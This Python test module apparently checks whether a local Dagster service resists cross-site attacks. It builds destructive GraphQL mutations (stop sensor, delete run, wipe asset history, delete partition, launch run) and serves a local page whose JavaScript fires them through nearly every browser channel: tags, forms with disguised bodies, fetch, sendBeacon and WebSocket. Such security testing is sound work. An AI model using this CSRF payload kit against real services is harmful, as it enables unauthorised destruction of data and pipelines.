"""Attacks by a page of another site: harmful mutations of Dagster, and all ways to send them."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlencode

from mt_pipeline_tests.pipelines import STAGES
from mt_pipeline_tests.services import Running

KEY = "kitchen/a.pcap"
_REPOSITORY = '{repositoryLocationName: "mt_pipeline", repositoryName: "__repository__"}'
_STATE = """{
    sensorOrError(sensorSelector: {
            repositoryLocationName: "mt_pipeline", repositoryName: "__repository__",
            sensorName: "new_captures"}) {
        ...on Sensor {sensorState {id selectorId status}}}
    runsOrError {...on Runs {results {runId status}}}
    assetsOrError {...on AssetConnection {
        nodes {key {path} definition {partitionKeys} assetMaterializations(limit: 9) {partition}}}}
}"""


def state(service: Running) -> dict[str, object]:
    """Read what the attacks would change: sensor, runs, partitions, history."""
    return service.query(_STATE)


def mutations(service: Running) -> dict[str, str]:
    """Write the mutations of an attack, by what they do."""
    sensor = state(service)["sensorOrError"]["sensorState"]  # type: ignore[index,call-overload]
    run = state(service)["runsOrError"]["results"][0]["runId"]  # type: ignore[index,call-overload]
    wiped = ", ".join(f'{{assetKey: {{path: ["{stage}"]}}}}' for stage in STAGES)
    selector = f'{_REPOSITORY[:-1]}, jobName: "ingest_captures"}}'
    tags = f'[{{key: "dagster/partition", value: {json.dumps(KEY)}}}]'
    config = '"{\\"ops\\": {\\"ingest\\": {\\"config\\": {\\"filter\\": \\"tcp.port == 1\\"}}}}"'
    calls = {
        "stop the sensor": (
            f'stopSensor(id: "{sensor["id"]}", jobSelectorId: "{sensor["selectorId"]}")'
        ),
        "delete a run": f'deleteRun(runId: "{run}")',
        "launch a run with another filter": (
            f"launchRun(executionParams: {{selector: {selector}, runConfigData: {config}, "
            f"executionMetadata: {{tags: {tags}}}}})"
        ),
        "delete a partition": (
            f"deleteDynamicPartitions(partitionKeys: [{json.dumps(KEY)}], "
            f'partitionsDefName: "captures", repositorySelector: {_REPOSITORY})'
        ),
        "wipe history": f"wipeAssets(assetPartitionRanges: [{wiped}])",
    }
    return {name: f"mutation {{{call} {{__typename}}}}" for name, call in calls.items()}


@dataclass(frozen=True)
class Hostile:
    """A page of somebody else.

    Attributes:
        port: its port, at 127.0.0.1 and localhost.
        arrived: paths that were requested, by which the page reports.
    """

    port: int
    arrived: list[str]


@contextmanager
def hostile(target: str, sent: list[str]) -> Iterator[Hostile]:
    """Serve a page that attacks a service as soon as it is open, in every way that a page has.

    Args:
        target: address of the service.
        sent: mutations.
    """
    page = _PAGE.replace("TARGET", json.dumps(target)).replace("SENT", json.dumps(sent)).encode()
    arrived: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            arrived.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page if self.path == "/" else b"")

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield Hostile(server.server_address[1], arrived)
        finally:
            server.shutdown()
            thread.join()


def by_get(service: Running, mutation: str) -> str:
    """Write the address that executes a mutation by GET."""
    return f"{service.ui}/graphql?{urlencode({'query': mutation})}"


# Each attempt waits for its response, refusal or failure. At the end, `document.title` is a JSON
# list of the attempts whose responses the page could read.
_PAGE = """<!doctype html><meta charset=utf-8><title>at work</title><body><script>
const target = TARGET, sent = SENT, read = [];
const url = query => `${target}/graphql?query=${encodeURIComponent(query)}`;
const loaded = (name, attributes) => new Promise(done => {
    const element = document.createElement(name);
    element.onload = element.onerror = done;
    Object.assign(element, attributes);
    document.body.append(element);
    setTimeout(done, 20000);
});
let frames = 0;
const form = (action, type, fields, method = 'POST') => new Promise(done => {
    const frame = document.createElement('iframe'), form = document.createElement('form');
    frame.name = `frame${frames++}`;
    Object.assign(form, {action, method, target: frame.name});
    form.setAttribute('enctype', type);
    for (const [name, value] of Object.entries(fields)) {
        const field = document.createElement('textarea');
        Object.assign(field, {name, value});
        form.append(field);
    }
    document.body.append(frame, form);
    frame.onload = done;
    form.submit();
    setTimeout(done, 20000);
});
const asked = async (what, address, options) => {
    try {
        const answer = await fetch(address, {credentials: 'include', ...options});
        if (answer.type !== 'opaque') read.push(what);
    } catch {}
};
const socket = query => new Promise(done => {
    const opened = new WebSocket(target.replace('http', 'ws') + '/graphql', 'graphql-ws');
    opened.onerror = opened.onclose = done;
    opened.onopen = () => {
        read.push('websocket');
        opened.send(JSON.stringify({type: 'connection_init', payload: {}}));
        opened.send(JSON.stringify({type: 'start', id: '1', payload: {query}}));
        setTimeout(done, 1000);
    };
});
(async () => {
    for (const query of sent) {
        const json = JSON.stringify({query}), parts = new FormData();
        parts.append('query', query);
        await Promise.all([
            loaded('img', {src: url(query)}),
            loaded('script', {src: url(query)}),
            loaded('iframe', {src: url(query)}),
            loaded('link', {rel: 'stylesheet', href: url(query)}),
            loaded('object', {data: url(query)}),
            loaded('video', {src: url(query)}),
        ]);
        const urlencoded = 'application/x-www-form-urlencoded';
        const disguised = '{"query": ' + JSON.stringify(query) + ', "x": "';
        for (const type of [urlencoded, 'multipart/form-data', 'text/plain']) {
            await form(url(query), type, {query});
            await form(`${target}/graphql`, type, {query, [disguised]: '"}'});
        }
        await form(`${target}/graphql`, urlencoded, {query}, 'GET');
        await asked('GET', url(query), {mode: 'no-cors'});
        await asked('GET cors', url(query), {mode: 'cors'});
        for (const type of [urlencoded, 'text/plain', 'text/plain;application/json']) {
            const headers = {'Content-Type': type};
            const options = {method: 'POST', mode: 'no-cors', headers, body: json};
            await asked(type, `${target}/graphql`, options);
            await asked(type, url(query), options);
        }
        await asked('parts', url(query), {method: 'POST', mode: 'no-cors', body: parts});
        const headers = {'Content-Type': 'application/json'};
        await asked('json', `${target}/graphql`, {method: 'POST', headers, body: json});
        navigator.sendBeacon(url(query), json);
        const blob = new Blob([json], {type: 'text/plain;application/json'});
        navigator.sendBeacon(`${target}/graphql`, blob);
        await socket(query);
    }
    await asked('materialization', `${target}/report_asset_materialization/tshark_json`,
        {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: '{}'});
    await asked('ended', `${target}/server_info`, {mode: 'no-cors'});
    document.title = JSON.stringify(read);
})();
</script>"""
